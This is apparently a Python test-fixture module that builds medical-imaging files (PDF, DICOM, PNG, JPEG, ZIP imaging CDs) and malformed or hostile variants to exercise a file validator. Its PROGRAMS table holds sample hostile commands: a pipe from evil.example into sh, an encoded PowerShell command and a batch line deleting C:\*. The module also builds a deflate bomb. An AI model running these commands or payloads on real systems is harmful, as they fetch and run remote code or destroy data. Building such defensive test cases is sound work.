"""How the corpus's files are made: real documents built field by field, and the byte
surgery that breaks them."""

import io
import os
import struct
import zipfile
import zlib

import pikepdf
import pydicom
from PIL import Image
from pydicom.data import get_testdata_file
from pydicom.dataset import Dataset, FileMetaDataset
from pydicom.uid import (
    DeflatedExplicitVRLittleEndian,
    ExplicitVRBigEndian,
    ExplicitVRLittleEndian,
    ImplicitVRLittleEndian,
    SecondaryCaptureImageStorage,
    generate_uid,
)

from tests import samples

PROGRAMS = {
    "windows-program": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + b"\0" * 50
    + b"PE\0\0"
    + b"\0" * 200,
    "linux-program": b"\x7fELF\x02\x01\x01\x00" + b"\0" * 300,
    "mac-program": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 300,
    "shell-script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 100,
    "webassembly": b"\0asm\x01\0\0\0" + b"\0" * 50,
    "office-or-msi": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500,
    "powershell": b"powershell -enc SQBFAFgA\r\n",
    "batch-file": b"@echo off\r\ndel /q C:\\*\r\n",
}


def pdf_document(pages: int = 1, *, text: str = "Clinic letter", **save) -> bytes:
    """A PDF with ``pages`` pages of text, as a hospital's system writes one."""
    document = pikepdf.new()
    font = document.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont="/Helvetica"
        )
    )
    for number in range(pages):
        content = f"BT /F1 14 Tf 72 720 Td ({text}, page {number + 1}) Tj ET".encode()
        page = document.add_blank_page(page_size=(612, 792))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = document.make_stream(content)
    if "encryption" not in save:
        save["deterministic_id"] = True  # the same bytes every run (mutations are seeded)
    buffer = io.BytesIO()
    document.save(buffer, **save)
    return buffer.getvalue()


def pdf_with_image() -> bytes:
    """A scanned page: one picture filling the page."""
    buffer = io.BytesIO()
    Image.new("RGB", (300, 400), (230, 230, 220)).save(buffer, "PDF", resolution=50.0)
    return buffer.getvalue()


def picture(kind: str, mode: str = "RGB", size=(64, 48), **options) -> bytes:
    """A photo-like picture (a gradient: every row differs, so nothing compresses away)."""
    gradient = Image.linear_gradient("L").resize(size)
    image = Image.merge(
        "RGB", (gradient, gradient.transpose(Image.Transpose.ROTATE_90).resize(size), gradient)
    ).convert(mode)
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def dicom_image(
    *,
    rows: int = 16,
    columns: int = 16,
    frames: int = 1,
    bits: int = 16,
    syntax=ExplicitVRLittleEndian,
    photometric: str = "MONOCHROME2",
    pixel_bytes: bytes | None = None,
) -> bytes:
    """A DICOM image built field by field, as a modality writes one (no patient data)."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = SecondaryCaptureImageStorage
    # Derived from the arguments: the same file every run (mutations of it are seeded too).
    shape = [str(value) for value in (rows, columns, frames, bits, syntax, photometric)]
    meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=shape)
    meta.TransferSyntaxUID = syntax
    dataset = Dataset()
    dataset.file_meta = meta
    dataset.SOPClassUID = meta.MediaStorageSOPClassUID
    dataset.SOPInstanceUID = meta.MediaStorageSOPInstanceUID
    dataset.Modality = "OT"
    dataset.SeriesNumber = 1
    dataset.InstanceNumber = 1
    dataset.Rows, dataset.Columns = rows, columns
    dataset.SamplesPerPixel = 1
    dataset.PhotometricInterpretation = photometric
    dataset.BitsAllocated = bits
    dataset.BitsStored = bits
    dataset.HighBit = bits - 1
    dataset.PixelRepresentation = 0
    if frames > 1:
        dataset.NumberOfFrames = frames
    size = rows * columns * frames * bits // 8
    dataset.PixelData = (
        pixel_bytes
        if pixel_bytes is not None
        else bytes(range(256)) * (size // 256) + bytes(size % 256)
    )
    buffer = io.BytesIO()
    dataset.save_as(
        buffer,
        enforce_file_format=True,
        implicit_vr=syntax == ImplicitVRLittleEndian,
        little_endian=syntax != ExplicitVRBigEndian,
    )
    return buffer.getvalue()


def zip_of(entries, *, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def pydicom_images() -> dict[str, bytes]:
    """pydicom's own test images that are real, decodable images."""
    refused = {
        "JPEG-lossy.dcm",  # 12-bit JPEG no installed decoder reads
        "JPEG2000-embedded-sequence-delimiter.dcm",
        "SC_rgb_jpeg.dcm",  # its JPEG data does not decode
        "MR_truncated.dcm",
        "badVR.dcm",
        "nested_priv_SQ.dcm",
        "meta_missing_tsyntax.dcm",
        "rtplan_truncated.dcm",
    }
    folder = os.path.dirname(get_testdata_file("CT_small.dcm"))
    images = {}
    for name in sorted(os.listdir(folder)):
        if not name.endswith(".dcm") or name in refused:
            continue
        with open(os.path.join(folder, name), "rb") as file:
            content = file.read()
        if content[128:132] != b"DICM":
            continue
        dataset = pydicom.dcmread(io.BytesIO(content), stop_before_pixels=True)
        if (
            "Rows" in dataset
            and dataset.file_meta.TransferSyntaxUID != DeflatedExplicitVRLittleEndian
        ):
            images[name] = content
    return images


def pdf_with_link() -> bytes:
    """A report with a clickable web link (kept: it runs only when someone clicks it)."""
    document = pikepdf.open(io.BytesIO(pdf_document(1)))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[72, 700, 300, 720],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://hospital.example")),
    )
    document.pages[0].obj.Annots = document.make_indirect(pikepdf.Array([link]))
    return _saved(document)


def pdf_with_form(*, script: bool) -> bytes:
    """A fillable form; with ``script``, its field formats keystrokes with JavaScript."""
    document = pikepdf.open(io.BytesIO(pdf_document(1)))
    field = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Widget,
        FT=pikepdf.Name.Tx,
        T=pikepdf.String("weight"),
        Rect=[72, 600, 300, 620],
    )
    if script:
        field.AA = pikepdf.Dictionary(
            K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(9)"))
        )
    field = document.make_indirect(field)
    document.pages[0].obj.Annots = pikepdf.Array([field])
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    return _saved(document)


def _saved(document, **options) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer, **options)
    return buffer.getvalue()


def interlaced_png() -> bytes:
    """An Adam7-interlaced PNG, written chunk by chunk (Pillow does not write them)."""
    width, height = 13, 9
    raw = b""
    for x0, y0, dx, dy in (
        (0, 0, 8, 8),
        (4, 0, 8, 8),
        (0, 4, 4, 8),
        (2, 0, 4, 4),
        (0, 2, 2, 4),
        (1, 0, 2, 2),
        (0, 1, 1, 2),
    ):
        columns, rows = -(-(width - x0) // dx), -(-(height - y0) // dy)
        if columns > 0 and rows > 0:
            raw += (b"\0" + bytes([120]) * columns) * rows
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(raw))
        + png_chunk(b"IEND", b"")
    )


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_with_text(key: bytes, text: bytes) -> bytes:
    content = picture("PNG")
    return content[:33] + png_chunk(b"tEXt", key + b"\0" + text) + content[33:]


def jpeg_with_exif() -> bytes:
    image = Image.new("RGB", (80, 40), (200, 10, 10))
    exif = Image.Exif()
    exif[0x0112] = 6  # rotated: the phone was held upright
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif.tobytes())
    return buffer.getvalue()


def dicomdir() -> bytes:
    """A CD's DICOMDIR: a DICOM file with the directory's records and no image."""
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.1.3.10"
    meta.MediaStorageSOPInstanceUID = generate_uid(entropy_srcs=["DICOMDIR"])
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    dataset = Dataset()
    dataset.file_meta = meta
    dataset.FileSetID = "CD"
    dataset.DirectoryRecordSequence = []
    buffer = io.BytesIO()
    dataset.save_as(buffer, enforce_file_format=True, implicit_vr=False)
    return buffer.getvalue()


def raw_pdf(objects: dict[int, bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF written object by object, with a correct cross-reference table: the shape of
    a file is whatever the objects say, lies included."""
    out, offsets = b"%PDF-1.7\n", {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + objects[number] + b"\nendobj\n"
    xref, size = len(out), max(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        out += (
            f"{offsets[number]:010d} 00000 n \n" if number in offsets else "0000000000 65535 f \n"
        ).encode()
    return (
        out
        + f"trailer\n<</Size {size}/Root {root} 0 R{trailer.decode()}>>\n".encode()
        + f"startxref\n{xref}\n%%EOF\n".encode()
    )


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n" % (len(data), extra) + data + b"\nendstream"


PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>"


def deflate_bomb(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    out = b"".join(compressor.compress(block) for _ in range(size // len(block)))
    return out + compressor.flush()


def png_of(header: bytes, data: bytes, *, extra: list[bytes] | None = None) -> bytes:
    chunks = [
        png_chunk(b"IHDR", header),
        *(extra or []),
        png_chunk(b"IDAT", data),
        png_chunk(b"IEND", b""),
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def meta_end(content: bytes) -> int:
    """Where the File Meta group ends (its group length is the first element)."""
    return 144 + struct.unpack("<I", content[140:144])[0]


def with_meta(content: bytes, *, syntax: str | None = None, drop_syntax: bool = False) -> bytes:
    """``content`` with its transfer syntax replaced (or removed), group length corrected."""
    end, position, elements = meta_end(content), 144, []
    while position < end:
        _group, element, vr = struct.unpack("<HH2s", content[position : position + 6])
        if vr in (b"OB", b"UN", b"UT", b"SQ", b"OW"):
            length, head = struct.unpack("<I", content[position + 8 : position + 12])[0], 12
        else:
            length, head = struct.unpack("<H", content[position + 6 : position + 8])[0], 8
        raw = content[position : position + head + length]
        if element == 0x0010:
            if drop_syntax:
                raw = b""
            elif syntax is not None:
                value = syntax.encode() + b"\0" * (len(syntax) % 2)
                raw = struct.pack("<HH2sH", 2, 0x10, b"UI", len(value)) + value
        elements.append(raw)
        position += head + length
    meta = b"".join(elements)
    return content[:132] + struct.pack("<HH2sHI", 2, 0, b"UL", 4, len(meta)) + meta + content[end:]


def rle_claiming(frames: int, rows: int, columns: int) -> bytes:
    """An RLE DICOM whose header claims ``frames`` frames of rows x columns, with one small
    fragment."""
    from pydicom.encaps import encapsulate
    from pydicom.uid import RLELossless

    content = dicom_image(rows=4, columns=4, bits=8)
    dataset = pydicom.dcmread(io.BytesIO(content))
    header = struct.pack("<16I", 1, 64, *([0] * 14))
    dataset.file_meta.TransferSyntaxUID = RLELossless
    dataset.PixelData = encapsulate([header + b"\x0f" + bytes(16)])
    dataset["PixelData"].VR = "OB"
    dataset.Rows, dataset.Columns, dataset.NumberOfFrames = rows, columns, frames
    buffer = io.BytesIO()
    dataset.save_as(buffer, enforce_file_format=True)
    return buffer.getvalue()


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    """A ZIP with an entry's name changed in place (local and central headers alike)."""
    assert len(old) == len(new)
    return content.replace(old, new)


def end_record(content: bytes, **fields) -> bytes:
    """A ZIP whose end-of-central-directory record says something else."""
    at = content.rfind(b"PK\x05\x06")
    values = list(struct.unpack("<4s4H2LH", content[at : at + 22]))
    names = ["signature", "disk", "disk_directory", "here", "total", "size", "offset", "comment"]
    for name, value in fields.items():
        values[names.index(name)] = value
    return content[:at] + struct.pack("<4s4H2LH", *values) + content[at + 22 :]


def jpeg_with_segment(marker: bytes, body: bytes) -> bytes:
    photo = picture("JPEG")
    return photo[:2] + marker + struct.pack(">H", len(body) + 2) + body + photo[2:]


def imaging_cd(*, report: bool = True) -> bytes:
    """A real imaging CD copied into a ZIP: the images, DICOMDIR, a Windows viewer, an
    autorun file, a web page, thumbnails and often the radiologist's report."""
    entries = [
        ("DICOMDIR", dicomdir()),
        ("DICOM/ST000000/SE000000/IM000000", samples.dicom("CT_small.dcm")),
        ("DICOM/ST000000/SE000000/IM000001", samples.dicom("CT_small.dcm")),
        ("DICOM/ST000000/SE000001/IM000000", samples.dicom("MR_small.dcm")),
        ("VIEWER/viewer.exe", PROGRAMS["windows-program"]),
        ("VIEWER/dcmtk.dll", PROGRAMS["windows-program"]),
        ("autorun.inf", b"[autorun]\r\nopen=VIEWER\\viewer.exe\r\n"),
        (
            "index.htm",
            b"<html><body><a href='VIEWER/viewer.exe'>Open</a><script></script></body></html>",
        ),
        ("Thumbs.db", PROGRAMS["office-or-msi"]),
        ("README.TXT", b"Imaging CD"),
    ]
    if report:
        entries.append(("REPORT/REPORT.PDF", pdf_document(1, text="Radiology report")))
    return zip_of(entries)
